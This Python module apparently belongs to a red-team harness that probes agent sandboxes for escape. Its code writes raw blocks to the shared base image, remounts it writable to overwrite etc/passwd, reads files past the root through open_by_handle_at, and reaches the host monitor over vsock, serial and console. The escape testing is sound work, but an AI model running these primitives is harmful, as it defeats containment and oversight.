"""The machine and what is behind it: files, mounts and devices."""

import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import socket
import struct
import tempfile
from pathlib import Path

from .notes import facts, said, tried


def look(path: str) -> None:
    """Reads a file, if it is there, and says what is in it."""
    tried.append(f"open {path}")
    with contextlib.suppress(OSError, ValueError), open(path, "rb") as file:
        said.append(file.read(4096).decode("latin-1"))


def scan(path: str, what: bytes, most: int = 64 << 20) -> None:
    """Looks through a device or a file for octets, and says what stands there."""
    tried.append(f"scan {path}")
    with contextlib.suppress(OSError, ValueError), open(path, "rb", buffering=0) as file:
        kept, left = b"", most
        while left > 0 and (data := file.read(1 << 20)):
            left -= len(data)
            if (at := (kept + data).find(what)) >= 0:
                said.append((kept + data)[at : at + 200].decode("latin-1"))
                return
            kept = data[-200:]


def scan_all(patterns: list[str]) -> None:
    """Looks through devices for the token of the host, or for what it begins with; where none is there, that is what was tried."""
    tried.append(" ".join(patterns))
    for pattern in facts.get("devices") or patterns:
        for path in sorted(glob.glob(pattern))[:40]:
            scan(path, b"honey-" + str(facts["run"]).encode(), 16 << 20)


_libc = ctypes.CDLL(None, use_errno=True)
_below = ""


def mounted(source: str, kind: str, flags: int) -> None:
    """Mounts something, in a namespace of mounts that ends with the attempt."""
    global _below  # one process makes one attempt
    tried.append(f"mount {source}")
    _below = tempfile.mkdtemp()
    _libc.unshare(0x20000)
    _libc.mount(b"none", b"/", None, 0x44000, None)
    _libc.mount(source.encode(), _below.encode(), kind.encode() or None, flags, None)


def look_below(path: str) -> None:
    """Reads a file of the folder that was mounted."""
    look(f"{_below}/{os.path.basename(path)}")


def by_handle(path: str) -> None:
    """Opens a file past its folders, by what its file system calls it: that of the path, else the first ones that there are."""
    tried.append(f"handle {path}")
    handle = ctypes.create_string_buffer(136)
    struct.pack_into("Ii", handle, 0, 128, 0)
    at = ctypes.c_int()
    known = _libc.name_to_handle_at(-100, path.encode(), handle, ctypes.byref(at), 0) == 0
    root = os.open(os.path.dirname(path) if known else "/", os.O_RDONLY)
    for number in range(1) if known else range(2, 2000):
        if not known:
            struct.pack_into("IiII", handle, 0, 8, 1, number, 0)
        fd = _libc.open_by_handle_at(root, handle, os.O_RDONLY | os.O_NONBLOCK)
        if fd >= 0:
            with contextlib.suppress(OSError):
                said.append(os.read(fd, 200).decode("latin-1"))
            os.close(fd)
    os.close(root)


# -- what all sandboxes share

_SUPERBLOCK = 0xE0F5E1E2
_BLKROSET, _BLKDISCARD, _BLKZEROOUT, _BLKFLSBUF, _LOOP_GET, _LOOP_SET, _SG_IO = 0x125D, 0x1277, 0x127F, 0x1261, 0x4C82, 0x4C00, 0x2285  # fmt: skip
_SUPERBLOCK_AT = 0
_SPOTS = (1 << 20, 2 << 20, 50 << 20)
"""Where it is written to; each attempt a little further on, so that none writes over another."""


def _base() -> str:
    """A node of the device that all sandboxes share. Raises `LookupError` where there is none."""
    if shared := facts.get("disk"):
        return str(shared)
    for line in Path("/proc/partitions").read_text().splitlines()[2:]:
        major, minor, _, name = line.split()
        path = f"/dev/.{name}-{os.getpid()}"
        os.mknod(path, 0o60600, os.makedev(int(major), int(minor)))
        with open(path, "rb", buffering=0) as file:
            file.seek(1024)
            if struct.unpack("<I", file.read(4))[0] == _SUPERBLOCK:
                return path
    raise LookupError("there is no base image")


def _put(path: str, data: bytes, flags: int = 0) -> None:
    own = int(data[2:8], 16) % 250 * 4096
    for spot in (_SUPERBLOCK_AT, *(one + own for one in _SPOTS)):
        with contextlib.suppress(OSError):
            fd = os.open(path, os.O_RDWR | os.O_SYNC | flags)
            try:
                with mmap.mmap(-1, 4096) as page:  # aligned, as a write past the cache has to be
                    page.write((data * 300)[:4096])
                    page.seek(0)
                    os.lseek(fd, spot, os.SEEK_SET)
                    os.write(fd, memoryview(page)[:4096].tobytes() if not flags else page)
            finally:
                os.close(fd)


def _mapped(path: str, data: bytes) -> None:
    fd = os.open(path, os.O_RDWR)
    with mmap.mmap(fd, 1 << 21) as whole:
        at = (1 << 20) + int(data[2:8], 16) % 250 * 4096
        whole[at : at + len(data)] = data
        whole.flush()


def _control(path: str, request: int, value: "int | bytes") -> None:
    for how in (os.O_RDWR, os.O_RDONLY):
        with contextlib.suppress(OSError):
            fd = os.open(path, how)
            fcntl.ioctl(fd, request, value)
            os.close(fd)


def _by_loop(path: str, data: bytes) -> None:
    with contextlib.suppress(OSError):
        control = os.open("/dev/loop-control", os.O_RDWR)
        number = fcntl.ioctl(control, _LOOP_GET)
        target = os.open(path, os.O_RDWR)
        loop = os.open(f"/dev/loop{number}", os.O_RDWR)
        fcntl.ioctl(loop, _LOOP_SET, target)
        _put(f"/dev/loop{number}", data)


def _by_its_file(data: bytes) -> None:
    """What the lower folders of the overlay are on, mounted for writing, and files in it."""
    for folder in ("/proc/1/root/hw/base", "/hw/base"):
        _libc.mount(None, folder.encode(), None, 32 | 0, None)  # MS_REMOUNT, without MS_RDONLY
        for name in ("etc/hostname", "usr/bin/env", "etc/passwd"):
            with contextlib.suppress(OSError), open(f"{folder}/{name}", "r+b", buffering=0) as file:
                file.write(data)


def _mounted_anew(path: str, data: bytes) -> None:
    below = tempfile.mkdtemp()
    if _libc.mount(path.encode(), below.encode(), b"erofs", 0, None) == 0:
        with contextlib.suppress(OSError), open(f"{below}/etc/passwd", "r+b", buffering=0) as file:
            file.write(data)


def _raw_commands(path: str, data: bytes) -> None:
    """A command of SCSI that writes."""
    held = ctypes.create_string_buffer((data * 40)[:512], 512)
    command = ctypes.create_string_buffer(b"\x2a\0\0\0\0\x08\0\0\1\0", 10)
    sense = ctypes.create_string_buffer(32)
    head = struct.pack("iiBBHIPPPIIiP", ord("S"), -2, 10, 32, 0, 512, ctypes.addressof(held), ctypes.addressof(command), ctypes.addressof(sense), 5000, 0, 0, 0)  # fmt: skip
    _control(path, _SG_IO, head.ljust(96, b"\0"))


def on_the_base(how: str, data: bytes) -> None:
    """Writes to the base image, in one of many ways."""
    path = _base()
    tried.append(f"{how} {path}")
    nowhere = bool(facts.get("disk"))
    with contextlib.suppress(OSError, ValueError):
        if how == "past-the-cache":
            _put(path, data, os.O_DIRECT)
        elif how == "mapped":
            _mapped(path, data)
        elif how == "made-writable":
            _control(path, _BLKROSET, struct.pack("i", 0))
            _put(path, data)
        elif how == "by-a-loop":
            _by_loop(path, data)
        elif how in ("zeroed", "discarded"):
            _control(path, _BLKROSET, struct.pack("i", 0))
            _control(path, _BLKZEROOUT if how == "zeroed" else _BLKDISCARD, struct.pack("QQ", 0, 1 << 20))
            _put(path, data)
        elif how == "mounted-anew":
            _mounted_anew(path, data)
        elif how == "by-its-file":
            _by_its_file(data)
        elif how == "raw-commands":
            _raw_commands(path, data)
    if how == "written" or nowhere:
        _put(path, data)
    _control(path, _BLKFLSBUF, 0)


def in_memory(data: bytes, *, given_back: bool = False) -> None:
    """Fills memory, and gives it back to whoever takes it."""
    tried.append("memory")
    if shared := facts.get("memory"):
        _mapped(str(shared), data)
        return
    with mmap.mmap(-1, 48 << 20) as held:
        page = (data * 300)[:4096]
        for at in range(0, len(held), 4096):
            held[at : at + 4096] = page
        if given_back:
            held.madvise(mmap.MADV_DONTNEED)
            for path, value in (("/proc/sys/vm/drop_caches", "3"), ("/proc/sys/vm/compact_memory", "1")):
                with contextlib.suppress(OSError), open(path, "w") as file:
                    file.write(value)


# -- what leads to the monitor


def by_unix(path: str, data: bytes) -> None:
    """Says something to a socket of the host's, where it is known."""
    if path:
        with socket.socket(socket.AF_UNIX) as sock:
            sock.connect(path)
            sock.sendall(data)


def by_vsock(number: int, data: bytes) -> None:
    """Connects past the network to the host (2), itself (1) and others. Where there is no such family, that is what was tried."""
    tried.append(f"vsock {number}")
    for port in (facts.get("vsock_port") or 1000, 1000, 1024, 7070, 22):
        with contextlib.suppress(OSError, OverflowError), socket.socket(40, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect((number, port))
            sock.sendall(data)
    by_unix(facts.get("monitor", ""), data)


def by_ports(data: bytes) -> None:
    """Writes to all ports of serial devices but the agent's own, which has a single user."""
    tried.append("ports")
    for number in range(1, 8):
        for major in (4, 229, 204, 5, 253, 251):
            path = f"/dev/.port-{os.getpid()}-{major}-{number}"
            with contextlib.suppress(OSError):
                os.mknod(path, 0o20600, os.makedev(major, number if major != 4 else 64 + number))
                fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
                os.write(fd, data)
                os.close(fd)
    by_unix(facts.get("monitor", ""), data)


def by_console(data: bytes) -> None:
    """Writes to the console, with what a terminal would obey."""
    tried.append("console")
    for path in ("/proc/1/fd/0", "/dev/kmsg", "/dev/ttyS0", "/dev/hvc0"):
        with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
            file.write(b"\r\n" + data + b" \x1b[2J\x1b]0;" + data + b"\a\r\n")
    by_unix(facts.get("monitor", ""), data)


# -- folders to be copied


def place(mark: str) -> str:
    """A new folder of this attempt, which the host copies."""
    path = os.path.join(facts["place"], f"tree-{mark}")
    os.makedirs(path)
    tried.append(f"folder {path}")
    return path


def outside(mark: str) -> str:
    """The file of the host's, beside the folder that a copy is for, which is not for the guest to write."""
    return os.path.join(facts["downloads"], mark, "outside")


def placeholder() -> bytes:
    """The placeholder that this sandbox has. Raises `LookupError` where it has none: without one nothing is misused."""
    if facts.get("monitor"):
        return b"hwp_nothing"
    return os.environ["REDTEAM_TOKEN"].encode()
